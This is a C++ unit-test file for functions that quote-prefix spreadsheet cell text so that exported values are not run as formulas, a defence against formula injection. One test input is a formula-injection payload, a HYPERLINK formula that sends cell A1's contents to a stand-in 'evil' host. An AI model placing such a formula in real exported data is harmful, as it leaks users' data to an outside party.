#include "exchange/cells.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

namespace trellis::exchange {
namespace {

TEST(GuardFormula, PutsAQuoteBeforeTextThatASpreadsheetWouldRun) {
  EXPECT_EQ(GuardFormula("=1+1"), "'=1+1");
  EXPECT_EQ(GuardFormula("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
  EXPECT_EQ(GuardFormula("+44 113 496 0000"), "'+44 113 496 0000");
  EXPECT_EQ(GuardFormula("-2+3"), "'-2+3");
  EXPECT_EQ(GuardFormula("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(GuardFormula("\t=1"), "'\t=1");
  EXPECT_EQ(GuardFormula("\r=1"), "'\r=1");
}

TEST(GuardFormula, LeavesOtherTextAlone) {
  for (std::string_view text :
       {"", "Ada", "O'Brien", "'", "''", "'quoted'", "a=b", " =1", "1-2", "2026-08-31", "Zoë"})
    EXPECT_EQ(GuardFormula(text), text) << text;
}

TEST(GuardFormula, GuardsTextThatAlreadyStartsWithTheGuard) {
  // Otherwise "'=x" would be written as is and read back as "=x".
  EXPECT_EQ(GuardFormula("'=x"), "''=x");
  EXPECT_EQ(GuardFormula("''-x"), "'''-x");
}

TEST(UnguardFormula, TakesOffExactlyTheOneQuoteThatGuardFormulaAdds) {
  EXPECT_EQ(UnguardFormula("'=1+1"), "=1+1");
  EXPECT_EQ(UnguardFormula("'+44"), "+44");
  EXPECT_EQ(UnguardFormula("'-x"), "-x");
  EXPECT_EQ(UnguardFormula("'@x"), "@x");
  EXPECT_EQ(UnguardFormula("'\tx"), "\tx");
  EXPECT_EQ(UnguardFormula("''=x"), "'=x");
  for (std::string_view cell : {"", "'", "''", "'quoted'", "O'Brien", "=1+1", "-5", "'a"})
    EXPECT_EQ(UnguardFormula(cell), cell) << cell;
}

TEST(UnguardFormula, ReadsBackWhatGuardFormulaWrote) {
  for (std::string_view text :
       {"=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''@x", "'", "'a", "Ada", "", "-", "'-"})
    EXPECT_EQ(UnguardFormula(GuardFormula(text)), text) << text;
}

}  // namespace
}  // namespace trellis::exchange
